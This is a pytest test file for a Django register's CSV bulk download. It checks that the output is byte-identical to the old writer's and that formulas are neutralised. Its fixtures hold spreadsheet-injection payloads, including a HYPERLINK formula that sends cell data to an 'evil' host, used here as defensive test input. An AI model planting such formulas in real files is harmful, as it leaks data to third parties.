"""The bulk download's faster writer (issue 18 speed pass) writes the very bytes the first one wrote.

The first writer is kept as an oracle in ``tests/register/legacy_download.py``. The fixture set covers what the CSV
writer must keep: formula neutralisation in every column (ASCII and full-width prefixes, tab, carriage return),
quoting of commas, quotes and line breaks, Chinese and non-BMP text, booleans, missing and empty values, numbers,
every entity kind, entries that are not visible, and gaps in the primary keys across slice boundaries.
"""

import copy
import functools
import hashlib

import pytest

import register.downloads as downloads
from register.downloads import CSV_FORMAT, FORMATS, csv_line, download_etag, download_path, download_regenerate
from register.models import Listing
from register.selectors import listing_contents_current, listing_csv_lines_current
from tests.factories import EntityFactory, make_id_number
from tests.register.legacy_download import legacy_write

pytestmark = pytest.mark.django_db


def _edge_contents(base: dict) -> list[dict]:
    """Variations of one real public content (dates kept valid: FollowTheMoney checks them)."""
    formulas = copy.deepcopy(base)
    formulas["entity"].update(name='=HYPERLINK("http://evil/?"&A1,"click")', identifier="+8613800000000")
    formulas["conduct"] = {"zh": "-逃税", "en": "@SUM(A1:A9)"}
    formulas["legal_basis"] = {"zh": "\t税收征收管理法", "en": "\rTax Collection Act"}
    formulas["department"] = "\uff1d国家税务总局"
    formulas["document"] = {**formulas["document"], "number": "\uff0b京税〔2026〕1号"}
    formulas["statement"] = "\uff20all: paid"
    for measure in formulas["measures"]:
        measure["name"] = {"zh": "-公示", "en": "=disclosure"}
    quoting = copy.deepcopy(base)
    quoting["entity"]["name"] = 'ACME "Best", Ltd.\nSecond line'
    quoting["statement"] = 'We object, "strongly".\r\nSee 附件 🙂; -not a formula inside'
    quoting.update(under_objection=True, under_legal_challenge=True)
    sparse = copy.deepcopy(base)
    sparse["conduct"] = {"zh": "仅中文"}
    sparse["legal_basis"] = {}
    sparse["document"] = {"number": 12345, "date": base["document"]["date"]}
    sparse["measures"] = []
    sparse["statement"] = None
    sparse["entity"]["identifier"] = None
    partial_measures = copy.deepcopy(base)
    partial_measures["measures"] = [
        {"name": {"zh": "限制"}, "starts_on": None, "ends_on": None},
        {"name": {}, "starts_on": base["published_from"]},
        *base["measures"],
    ]
    government = copy.deepcopy(base)
    government["entity"].update(kind="government_body", name="某某县人民政府")
    return [formulas, quoting, sparse, partial_measures, government]


@pytest.fixture
def register_set(publish):
    """Nine listings: real ones (company, person, other organisation), the edge contents, one ended, one gap."""
    company = publish()
    publish(entity=EntityFactory(person=True, name="王伟", identifier=make_id_number(birth="19850312")))
    publish(entity=EntityFactory(name="Harbin Ice Sculpture Association", kind="other_organisation"))
    edges = [publish(entity=EntityFactory(name=f"Edge {number}")) for number in range(5)]
    for listing, content in zip(edges, _edge_contents(company.content), strict=True):
        # As listings_refresh writes them: the content and its CSV line together.
        Listing.objects.filter(pk=listing.pk).update(content=content, csv_line=csv_line(content))
    ended = publish(entity=EntityFactory(name="Ended Co."))
    Listing.objects.filter(pk=ended.pk).update(ended_on=ended.published_from)
    gone = publish(entity=EntityFactory(name="Gone Co."))
    Listing.objects.filter(pk=gone.pk).delete()  # a gap in the primary keys
    publish(entity=EntityFactory(name="Last Co."))
    return Listing.objects.visible()


@pytest.mark.parametrize("chunk_size", [2, 2000])
@pytest.mark.parametrize("fmt", sorted(FORMATS))
def test_the_download_is_byte_identical_to_the_first_writer(register_set, tmp_path, monkeypatch, fmt, chunk_size):
    for name, reader in (("listing_contents_current", listing_contents_current),
                         ("listing_csv_lines_current", listing_csv_lines_current)):  # fmt: skip
        monkeypatch.setattr(downloads, name, functools.partial(reader, chunk_size=chunk_size))
    legacy = tmp_path / f"legacy.{fmt}"
    legacy_digest = legacy_write(fmt, legacy)
    written = download_regenerate(fmt).read_bytes()
    assert written == legacy.read_bytes()
    assert download_etag(fmt) == f'"{legacy_digest}"' == f'"{hashlib.sha256(written).hexdigest()}"'
    assert register_set.count() == 9


@pytest.mark.parametrize("stored", ["missing", "of another format"])
def test_csv_lines_not_stored_in_the_current_format_are_rendered_from_the_content(register_set, tmp_path, stored):
    legacy = tmp_path / "legacy.csv"
    legacy_write("csv", legacy)
    if stored == "missing":  # as the migration leaves the listings written before it
        Listing.objects.filter(pk__in=list(register_set.values_list("pk", flat=True)[:4])).update(
            csv_line=None, csv_format=None
        )
    else:
        Listing.objects.update(csv_line="stale", csv_format="0")
    assert download_regenerate("csv").read_bytes() == legacy.read_bytes()


def test_listings_store_their_csv_line_and_the_download_only_joins_them(register_set, monkeypatch, tmp_path):
    listing = register_set.order_by("pk").first()
    assert (listing.csv_format, listing.csv_line) == (CSV_FORMAT, csv_line(listing.content))
    legacy = tmp_path / "legacy.csv"
    legacy_write("csv", legacy)

    def unused(entry):
        raise AssertionError("rendered again although stored")

    monkeypatch.setattr(downloads, "csv_line", unused)
    assert download_regenerate("csv").read_bytes() == legacy.read_bytes()


def test_the_csv_rendering_is_pinned_to_its_format_version():
    """Changing what a line holds (columns, neutralisation, quoting) changes this digest: bump CSV_FORMAT with it, so
    that lines stored by the old rendering are not served."""
    entry = {
        "entity": {"name": '=A "B", C', "identifier": "91110000000000000X", "kind": "legal_person"},
        "conduct": {"zh": "逃税", "en": "Tax evasion"}, "legal_basis": {"zh": "法", "en": "Act"},
        "department": "Tax bureau", "document": {"number": "No. 1", "date": "2026-11-16"},
        "measures": [{"name": {"zh": "公示", "en": "Disclosure"}, "starts_on": "2026-11-16", "ends_on": "2029-11-16"}],
        "published_from": "2026-11-16", "ends_on": "2029-11-16", "statement": "-1\nline", "under_objection": False,
        "under_legal_challenge": True,
    }  # fmt: skip
    digest = hashlib.sha256(csv_line(entry).encode()).hexdigest()
    assert (CSV_FORMAT, digest[:16]) == ("1", "dae4d70eb115fe22")


def test_the_fixture_set_exercises_what_the_csv_writer_must_keep(register_set):
    body = download_regenerate("csv").read_bytes()
    assert body.startswith("\ufeff".encode())
    text = body.decode("utf-8-sig")
    for neutralised in (
        "'=HYPERLINK", "'+8613800000000", "'-逃税", "'@SUM", "'\t税收", "'\rTax", "'\uff1d国家", "'\uff0b京税",
        "'\uff20all", "'-公示", "'=disclosure",
    ):  # fmt: skip
        assert neutralised in text, neutralised
    assert '"ACME ""Best"", Ltd.\nSecond line"' in text
    assert ",True,True," in text and ",12345," in text and "🙂" in text
    assert "Ended Co." not in text and "Gone Co." not in text and "Last Co." in text
    assert text.count("\r\n") >= 9  # header and rows end with CRLF, as csv.writer writes them


def test_an_empty_register_writes_the_header_only():
    assert (
        download_regenerate("csv").read_bytes()
        == "\ufeff".encode() + (",".join(downloads.CSV_HEADER) + "\r\n").encode()
    )
    assert download_path("jsonl").exists() is False
    assert download_regenerate("jsonl").read_bytes() == b""
    assert list(listing_contents_current()) == [] == list(listing_csv_lines_current(csv_format=CSV_FORMAT))


def test_the_download_reads_one_query_per_slice_of_primary_keys(register_set, django_assert_num_queries):
    ids = list(Listing.objects.order_by("pk").values_list("pk", flat=True))
    slices = len(range(ids[0], ids[-1] + 1, 3))
    with django_assert_num_queries(1 + slices):  # the bounds, then one query per slice of 3 keys
        rows = list(listing_contents_current(chunk_size=3))
    assert [token for token, _content in rows] == list(register_set.order_by("pk").values_list("token", flat=True))


def test_rebuild_register_csv_lines_stores_the_missing_and_outdated_lines_only(register_set, tmp_path):
    from io import StringIO

    from django.core.management import call_command

    legacy = tmp_path / "legacy.csv"
    legacy_write("csv", legacy)
    ids = list(Listing.objects.order_by("pk").values_list("pk", flat=True))
    Listing.objects.filter(pk=ids[0]).update(csv_line=None, csv_format=None)
    Listing.objects.filter(pk=ids[1]).update(csv_line="old", csv_format="0")
    out = StringIO()
    call_command("rebuild_register", "--csv-lines", stdout=out)
    assert out.getvalue().strip() == "register: 2 CSV line(s) stored"
    for listing in Listing.objects.filter(pk__in=ids[:2]):
        assert (listing.csv_format, listing.csv_line) == (CSV_FORMAT, csv_line(listing.content))
    assert download_regenerate("csv").read_bytes() == legacy.read_bytes()
    call_command("rebuild_register", "--csv-lines", stdout=out)
    assert out.getvalue().strip().endswith("register: 0 CSV line(s) stored")


def test_a_base_url_that_needs_quoting_or_neutralising_gives_the_same_file(register_set, tmp_path, settings):
    settings.REGISTER_PUBLIC_BASE_URL = '=https://credit.example,gov.cn/"x"'
    legacy = tmp_path / "legacy.csv"
    legacy_write("csv", legacy)
    written = download_regenerate("csv").read_bytes()
    assert written == legacy.read_bytes()
    assert b'"\'=https://credit.example,gov.cn/""x""/register/r/' in written
